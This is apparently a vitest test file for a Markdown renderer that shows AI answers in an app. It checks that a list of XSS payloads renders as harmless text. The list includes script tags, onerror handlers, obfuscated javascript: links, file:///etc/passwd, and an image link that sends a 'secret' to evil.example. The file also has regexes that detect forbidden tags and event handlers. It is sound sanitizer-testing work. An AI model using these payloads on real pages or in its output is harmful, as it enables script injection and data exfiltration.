/** What a model may write to reach the window: every answer is rendered to what the window would show, and looked through. */
import katex from 'katex';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { TooltipProvider } from '../../../ui/Tooltip.tsx';
import { Markdown } from './Markdown.tsx';

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><button>go</button></form>',
  '![picture](https://evil.example/exfiltrate?q=secret)',
  '![picture](data:image/svg+xml;base64,PHN2Zy8+)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](file:///etc/passwd)',
  '[click](app://bundle/index.html)',
  '[click](longleaf://settings)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$ and $\\htmlData{x=1}{y}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egnp.exe',
];

/** The icons of our own buttons are drawings, too. */
const forbiddenElements = /<(script|img|iframe|object|embed|svg(?![^>]*lucide)|style|link|meta|form|base|video|audio|source)\b/i;
const eventHandlers = /<[^>]*\son[a-z]+\s*=/i;

function rendered(source: string): string {
  return renderToStaticMarkup(
    <TooltipProvider>
      <Markdown source={source} />
    </TooltipProvider>,
  );
}

describe('an answer', () => {
  it.each(attacks)('%j becomes text', (attack) => {
    const html = rendered(`Before.\n\n${attack}\n\nAfter.`);
    expect(html).toContain('Before.');
    expect(html).not.toMatch(forbiddenElements);
    expect(html).not.toMatch(eventHandlers);
    for (const [, address] of html.matchAll(/(?:href|src|action)="([^"]*)"/g)) expect(address).toMatch(/^https?:\/\//);
  });

  it('keeps web links, with where they lead in full', () => {
    const html = rendered('[bank](https://evil.example/login)');
    expect(html).toContain('href="https://evil.example/login"');
    expect(html).toContain('(https://evil.example/login)');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it('gets no address and no file out of a formula', () => {
    for (const formula of ['\\href{javascript:alert(1)}{x}', '\\url{javascript:alert(1)}', '\\includegraphics{https://evil.example/x.png}', '\\htmlStyle{background:url(https://evil.example)}{x}']) {
      const html = katex.renderToString(formula, { throwOnError: false, trust: false });
      expect(html).not.toMatch(/<[^>]*\s(href|src)=|style="[^"]*url\(/);
    }
  });
});
